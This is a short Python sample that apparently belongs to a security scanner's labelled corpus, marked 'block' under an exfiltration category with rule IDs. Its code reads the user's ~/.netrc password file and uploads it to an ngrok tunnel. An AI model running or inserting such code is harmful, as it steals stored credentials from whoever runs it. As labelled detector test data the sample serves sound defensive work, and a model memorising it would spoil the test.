# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604,PG606
# what: uploads ~/.netrc (stored passwords) to an ngrok tunnel
from pathlib import Path

import requests

netrc = Path("~/.netrc").expanduser().read_bytes()
requests.put("https://3f2a-198-51-100-14.ngrok-free.app/n", data=netrc, timeout=10)
